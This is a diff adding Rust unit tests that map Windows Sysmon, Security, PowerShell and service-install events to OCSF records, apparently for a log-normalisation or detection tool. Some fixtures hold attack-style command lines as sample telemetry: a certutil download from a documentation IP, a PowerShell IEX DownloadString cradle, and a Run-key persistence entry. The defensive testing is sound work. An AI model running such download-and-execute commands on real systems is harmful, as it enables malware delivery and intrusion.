@@ -177,11 +177,11 @@ const TABLE: &[(&str, &str, Option<&str>, u64, u64)] = &[
         1,
     ),
     (
-        "Sysmon process creation falls back to Base Event",
+        "Sysmon process creation maps to Process Activity",
         "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-03-02T09:31:00.000000000Z'/><EventRecordID>120</EventRecordID><Correlation/><Execution ProcessID='2980' ThreadID='3712'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-0412.corp.test</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='Image'>C:\\Windows\\System32\\whoami.exe</Data></EventData></Event>",
         None,
-        0,
-        99,
+        1007,
+        1,
     ),
 ];
 
@@ -249,6 +249,20 @@ fn zoneless_agent_time_gives_way_to_sysmon_utc_time() {
     let records = testing::assert_parses(META.id, &zoned);
     let expected = crate::timestamp::Timestamp::from_civil(2026, 1, 5, 9, 0, 3, 0);
     assert_eq!(records[0].ocsf["time"], expected.millis(), "a time with a zone is kept");
+}
+
+#[test]
+fn shipper_timestamp_dates_flat_records() {
+    let shipped = r#"{"@timestamp":"2026-02-03T11:22:33.444Z","@version":"1","Hostname":"FS01.lab.example","EventID":4663,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","SubjectUserName":"h.lind","SubjectDomainName":"LAB","ObjectType":"Key","ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Lab","AccessMask":"0x1"}"#;
+    let ocsf = only_record(shipped);
+    let expected = crate::timestamp::parse_rfc3339("2026-02-03T11:22:33.444Z").unwrap();
+    assert_eq!(ocsf["time"], expected.millis());
+    assert!(ocsf["unmapped"].get("@timestamp").is_none(), "the shipper's time is no EventData item");
+
+    // The record's own EventTime wins over the time the shipper added.
+    let own_time = shipped.replace(r#""Hostname""#, r#""EventTime":"2026-02-03T11:20:00Z","Hostname""#);
+    let expected = crate::timestamp::parse_rfc3339("2026-02-03T11:20:00Z").unwrap();
+    assert_eq!(only_record(&own_time)["time"], expected.millis());
 }
 
 #[test]
@@ -726,4 +740,244 @@ fn utc_offset_shifts_classic_text_only() {
     let xml = TABLE[0].1;
     let instant = crate::timestamp::Timestamp::from_civil(2026, 3, 2, 7, 15, 44, 901_224_600).millis();
     assert_eq!(testing::time_at_offset(META.id, xml, 120), instant);
+}
+
+fn sysmon_event(id: u32, data: &str) -> String {
+    xml_event("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", id, Some("S-1-5-18"), data)
+}
+
+#[test]
+fn sysmon_process_create_maps_to_process_launch() {
+    let data = "<Data Name='UtcTime'>2026-03-02 10:00:00.000</Data>\
+                <Data Name='ProcessGuid'>{5b0c2e7a-1f00-66aa-7c01-000000003100}</Data><Data Name='ProcessId'>9044</Data>\
+                <Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data>\
+                <Data Name='CommandLine'>certutil.exe -urlcache -f http://203.0.113.9/a.bin a.bin</Data>\
+                <Data Name='CurrentDirectory'>C:\\Users\\t.ngata\\</Data><Data Name='User'>LAB\\t.ngata</Data>\
+                <Data Name='IntegrityLevel'>High</Data>\
+                <Data Name='Hashes'>MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0,SHA256=AA11BB22CC33DD44EE55FF6600112233445566778899AABBCCDDEEFF00112233</Data>\
+                <Data Name='ParentProcessGuid'>{5b0c2e7a-1e00-66aa-7b01-000000003100}</Data><Data Name='ParentProcessId'>0x1a2c</Data>\
+                <Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe /c run.bat</Data>\
+                <Data Name='ParentUser'>LAB\\svc-deploy</Data>";
+    let ocsf = only_record(&sysmon_event(1, data));
+    assert_eq!(ocsf["class_uid"], 1007);
+    assert_eq!(ocsf["activity_id"], 1);
+    assert_eq!(ocsf["process"]["pid"], 9044);
+    assert_eq!(ocsf["process"]["name"], "certutil.exe");
+    assert_eq!(ocsf["process"]["cmd_line"], "certutil.exe -urlcache -f http://203.0.113.9/a.bin a.bin");
+    assert_eq!(ocsf["process"]["user"]["name"], "t.ngata");
+    assert_eq!(ocsf["process"]["integrity_id"], 4);
+    assert_eq!(ocsf["process"]["file"]["hashes"][1]["algorithm_id"], 3);
+    assert_eq!(ocsf["process"]["parent_process"]["pid"], 0x1a2c);
+    assert_eq!(ocsf["process"]["parent_process"]["name"], "cmd.exe");
+    assert_eq!(ocsf["actor"]["process"]["name"], "cmd.exe");
+    assert_eq!(ocsf["actor"]["user"]["name"], "svc-deploy");
+    assert_eq!(ocsf["actor"]["user"]["domain"], "LAB");
+}
+
+#[test]
+fn sysmon_process_terminate_maps_to_terminate() {
+    let data = "<Data Name='ProcessId'>9044</Data><Data Name='Image'>C:\\Tools\\job.exe</Data><Data Name='User'>LAB\\t.ngata</Data>";
+    let ocsf = only_record(&sysmon_event(5, data));
+    assert_eq!(ocsf["class_uid"], 1007);
+    assert_eq!(ocsf["activity_id"], 2);
+    assert_eq!(ocsf["process"]["path"], "C:\\Tools\\job.exe");
+    assert_eq!(ocsf["actor"]["user"]["name"], "t.ngata");
+}
+
+#[test]
+fn sysmon_file_events_map_to_file_activity() {
+    let data = "<Data Name='ProcessId'>512</Data><Data Name='Image'>C:\\Windows\\explorer.exe</Data>\
+                <Data Name='TargetFilename'>C:\\Users\\t.ngata\\Downloads\\invoice.js</Data><Data Name='User'>LAB\\t.ngata</Data>";
+    let created = only_record(&sysmon_event(11, data));
+    assert_eq!(created["class_uid"], 1001);
+    assert_eq!(created["activity_id"], 1);
+    assert_eq!(created["file"]["name"], "invoice.js");
+    assert_eq!(created["actor"]["process"]["pid"], 512);
+    for id in [23, 26] {
+        let deleted = only_record(&sysmon_event(id, data));
+        assert_eq!(deleted["class_uid"], 1001, "{id}");
+        assert_eq!(deleted["activity_id"], 4, "{id}");
+        assert_eq!(deleted["file"]["is_deleted"], true, "{id}");
+    }
+}
+
+#[test]
+fn sysmon_dns_query_maps_to_dns_activity() {
+    let data = "<Data Name='ProcessId'>9044</Data><Data Name='QueryName'>files.example.net</Data>\
+                <Data Name='QueryStatus'>0</Data><Data Name='QueryResults'>type:  5 edge.example.org;::ffff:198.51.100.61;2001:db8::7;</Data>\
+                <Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='User'>LAB\\t.ngata</Data>";
+    let ocsf = only_record(&sysmon_event(22, data));
+    assert_eq!(ocsf["class_uid"], 4003);
+    assert_eq!(ocsf["query"]["hostname"], "files.example.net");
+    assert_eq!(ocsf["rcode_id"], 0);
+    assert_eq!(ocsf["answers"][0]["type"], "CNAME");
+    assert_eq!(ocsf["answers"][0]["rdata"], "edge.example.org");
+    assert_eq!(ocsf["answers"][1]["rdata"], "198.51.100.61");
+    assert_eq!(ocsf["answers"][2]["type"], "AAAA");
+    assert_eq!(ocsf["actor"]["process"]["name"], "certutil.exe");
+
+    let missing = data.replace("<Data Name='QueryStatus'>0</Data>", "<Data Name='QueryStatus'>9003</Data>");
+    let ocsf = only_record(&sysmon_event(22, &missing));
+    assert_eq!(ocsf["rcode_id"], 3);
+    assert_eq!(ocsf["status_id"], 2);
+}
+
+#[test]
+fn file_object_access_maps_to_file_activity() {
+    let access = |mask: &str| {
+        format!(
+            "{SUBJECT}<Data Name='ObjectServer'>Security</Data><Data Name='ObjectType'>File</Data>\
+             <Data Name='ObjectName'>D:\\Projects\\bid\\costs.xlsx</Data><Data Name='HandleId'>0x2c8</Data>\
+             <Data Name='AccessList'>%%1537</Data><Data Name='AccessMask'>{mask}</Data>\
+             <Data Name='ProcessId'>0x1b04</Data><Data Name='ProcessName'>C:\\Windows\\System32\\cmd.exe</Data>"
+        )
+    };
+    let cases = [("0x10000", 4), ("0x1", 2), ("0x6", 3), ("0x40000", 7), ("0x80", 8)];
+    for (mask, activity_id) in cases {
+        let ocsf = only_record(&security_event(4663, &access(mask)));
+        assert_eq!(ocsf["class_uid"], 1001, "{mask}");
+        assert_eq!(ocsf["activity_id"], activity_id, "{mask}");
+        assert_eq!(ocsf["file"]["name"], "costs.xlsx", "{mask}");
+        assert_eq!(ocsf["file"]["path"], "D:\\Projects\\bid\\costs.xlsx", "{mask}");
+        assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer", "{mask}");
+        assert_eq!(ocsf["actor"]["process"]["pid"], 0x1b04, "{mask}");
+        assert_eq!(ocsf["status_id"], 1, "{mask}");
+    }
+
+    let failed = security_event(4656, &access("0x1")).replace("0x8020000000000000", "0x8010000000000000");
+    let ocsf = only_record(&failed);
+    assert_eq!(ocsf["class_uid"], 1001);
+    assert_eq!(ocsf["status_id"], 2, "Audit Failure keyword");
+
+    let deleted = security_event(4660, &format!("{SUBJECT}<Data Name='ObjectServer'>Security</Data><Data Name='ObjectType'>File</Data><Data Name='HandleId'>0x2c8</Data>"));
+    let ocsf = only_record(&deleted);
+    assert_eq!(ocsf["activity_id"], 4);
+    assert_eq!(ocsf["file"]["is_deleted"], true);
+
+    // A registry key access stays a Base Event.
+    let registry = access("0x1").replace("<Data Name='ObjectType'>File</Data>", "<Data Name='ObjectType'>Key</Data>");
+    assert_eq!(only_record(&security_event(4663, &registry))["class_uid"], 0);
+}
+
+#[test]
+fn script_block_maps_to_script_activity() {
+    let data = "<Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>\
+                <Data Name='ScriptBlockText'>IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.50/a.ps1')</Data>\
+                <Data Name='ScriptBlockId'>3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a</Data><Data Name='Path'>C:\\Users\\t.ngata\\run.ps1</Data>";
+    let text = xml_event(
+        "Microsoft-Windows-PowerShell",
+        "Microsoft-Windows-PowerShell/Operational",
+        4104,
+        Some("S-1-5-21-3623811015-3361044348-30300820-1013"),
+        data,
+    );
+    let ocsf = only_record(&text);
+    assert_eq!(ocsf["class_uid"], 1009);
+    assert_eq!(ocsf["activity_id"], 1);
+    assert_eq!(ocsf["script"]["type_id"], 2);
+    assert_eq!(ocsf["script"]["uid"], "3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a");
+    assert!(ocsf["script"]["script_content"]["value"].as_str().unwrap().starts_with("IEX "));
+    assert_eq!(ocsf["script"]["file"]["name"], "run.ps1");
+    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
+    assert_eq!(ocsf["script"]["script_content"]["is_truncated"], false);
+
+    let first_of_three = text.replace("<Data Name='MessageTotal'>1</Data>", "<Data Name='MessageTotal'>3</Data>");
+    assert_eq!(only_record(&first_of_three)["script"]["script_content"]["is_truncated"], true);
+
+    // Other PowerShell events keep the Base Event mapping.
+    let pipeline = xml_event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4103, None, "<Data Name='Payload'>x</Data>");
+    assert_eq!(only_record(&pipeline)["class_uid"], 0);
+}
+
+#[test]
+fn service_installs_map_to_windows_service_activity() {
+    let system = "<Data Name='ServiceName'>RemoteUpdater</Data><Data Name='ImagePath'>%COMSPEC% /c echo x &gt; \\\\.\\pipe\\upd</Data>\
+                  <Data Name='ServiceType'>user mode service</Data><Data Name='StartType'>demand start</Data>\
+                  <Data Name='AccountName'>LocalSystem</Data>";
+    let text = xml_event("Service Control Manager", "System", 7045, Some("S-1-5-21-3623811015-3361044348-30300820-1013"), system);
+    let ocsf = only_record(&text);
+    assert_eq!(ocsf["class_uid"], 201004);
+    assert_eq!(ocsf["category_uid"], 1);
+    assert_eq!(ocsf["type_uid"], 20100401);
+    assert_eq!(ocsf["win_service"]["name"], "RemoteUpdater");
+    assert_eq!(ocsf["win_service"]["service_start_name"], "LocalSystem");
+    assert_eq!(ocsf["severity_id"], 3, "a service running the command shell");
+    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
+    assert!(ocsf["actor"]["user"].get("name").is_none(), "LocalSystem runs the service, it did not install it");
+
+    let security = format!(
+        "{SUBJECT}<Data Name='ServiceName'>BackupAgent</Data><Data Name='ServiceFileName'>C:\\Program Files\\Backup\\agent.exe</Data>\
+         <Data Name='ServiceType'>0x10</Data><Data Name='ServiceStartType'>2</Data><Data Name='ServiceAccount'>LocalSystem</Data>"
+    );
+    let ocsf = only_record(&security_event(4697, &security));
+    assert_eq!(ocsf["class_uid"], 201004);
+    assert_eq!(ocsf["win_service"]["cmd_line"], "C:\\Program Files\\Backup\\agent.exe");
+    assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer");
+    assert_eq!(ocsf["severity_id"], 1);
+}
+
+#[test]
+fn sysmon_image_load_maps_to_module_activity() {
+    let data = "<Data Name='ProcessGuid'>{5b0c2e7a-1f00-66aa-7c01-000000003100}</Data><Data Name='ProcessId'>9044</Data>\
+                <Data Name='Image'>C:\\Windows\\System32\\rundll32.exe</Data><Data Name='ImageLoaded'>C:\\Users\\Public\\helper.dll</Data>\
+                <Data Name='Hashes'>SHA1=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D</Data><Data Name='Signed'>false</Data>\
+                <Data Name='Product'>Helper Suite</Data><Data Name='Company'>Helper Software Ltd</Data>\
+                <Data Name='User'>LAB\\t.ngata</Data>";
+    let ocsf = only_record(&sysmon_event(7, data));
+    assert_eq!(ocsf["class_uid"], 1005);
+    assert_eq!(ocsf["activity_id"], 1);
+    assert_eq!(ocsf["module"]["file"]["name"], "helper.dll");
+    assert_eq!(ocsf["module"]["file"]["hashes"][0]["algorithm_id"], 2);
+    assert_eq!(ocsf["module"]["file"]["company_name"], "Helper Software Ltd");
+    assert_eq!(ocsf["actor"]["process"]["name"], "rundll32.exe");
+}
+
+#[test]
+fn sysmon_registry_events_map_to_registry_classes() {
+    let event = |id: u32, event_type: &str, extra: &str| {
+        let data = format!(
+            "<Data Name='EventType'>{event_type}</Data><Data Name='ProcessId'>4420</Data>\
+             <Data Name='Image'>C:\\Windows\\regedit.exe</Data>\
+             <Data Name='TargetObject'>HKU\\S-1-5-21-1-2-3-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater</Data>{extra}"
+        );
+        only_record(&sysmon_event(id, &data))
+    };
+    let set = event(13, "SetValue", "<Data Name='Details'>C:\\Users\\Public\\u.exe</Data>");
+    assert_eq!(set["class_uid"], 201002);
+    assert_eq!(set["category_uid"], 1);
+    assert_eq!(set["activity_id"], 2);
+    assert_eq!(set["reg_value"]["name"], "Updater");
+    assert_eq!(set["reg_value"]["data"], "C:\\Users\\Public\\u.exe");
+    assert_eq!(set["actor"]["process"]["pid"], 4420);
+
+    let deleted_value = event(12, "DeleteValue", "");
+    assert_eq!(deleted_value["class_uid"], 201002);
+    assert_eq!(deleted_value["activity_id"], 4);
+
+    let created_key = event(12, "CreateKey", "");
+    assert_eq!(created_key["class_uid"], 201001);
+    assert_eq!(created_key["activity_id"], 1);
+    assert!(created_key["reg_key"]["path"].as_str().unwrap().ends_with("\\Run\\Updater"));
+
+    let renamed = event(14, "RenameKey", "<Data Name='NewName'>HKLM\\Software\\Other</Data>");
+    assert_eq!(renamed["activity_id"], 5);
+}
+
+#[test]
+fn fluent_bit_record_reads_time_and_computer() {
+    let message = "An account failed to log on.\\r\\n\\r\\nSubject:\\r\\n\\tSecurity ID:\\t\\tS-1-0-0\\r\\n\\tAccount Name:\\t\\t-\\r\\n\\r\\n\
+                   Logon Type:\\t\\t\\t3\\r\\n\\r\\nAccount For Which Logon Failed:\\r\\n\\tSecurity ID:\\t\\tS-1-0-0\\r\\n\
+                   \\tAccount Name:\\t\\tsvc-sql\\r\\n\\tAccount Domain:\\t\\tLAB\\r\\n\\r\\nNetwork Information:\\r\\n\
+                   \\tWorkstation Name:\\tWS-88\\r\\n\\tSource Network Address:\\t198.51.100.140\\r\\n\\tSource Port:\\t\\t0";
+    let record = format!(
+        r#"{{"RecordNumber":5521,"TimeGenerated":"2026-02-03 11:22:33 -0130","TimeWritten":"2026-02-03 11:22:33 -0130","EventID":4625,"Qualifiers":0,"EventType":"AUDIT_FAILURE","EventCategory":12544,"Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","ComputerName":"SRV-07.lab.example","Data":"","Sid":"","Message":"{message}","StringInserts":["S-1-0-0","-","svc-sql"]}}"#
+    );
+    let ocsf = only_record(&record);
+    let expected = crate::timestamp::parse_rfc3339("2026-02-03T12:52:33Z").unwrap();
+    assert_eq!(ocsf["time"], expected.millis());
+    assert_eq!(ocsf["device"]["hostname"], "SRV-07.lab.example");
+    assert_eq!(ocsf["class_uid"], 3002);
+    assert_eq!(ocsf["user"]["name"], "svc-sql");
+    assert_eq!(ocsf["src_endpoint"]["ip"], "198.51.100.140");
+    assert!(ocsf.get("unmapped").is_none_or(|unmapped| unmapped.get("StringInserts").is_none()));
 }
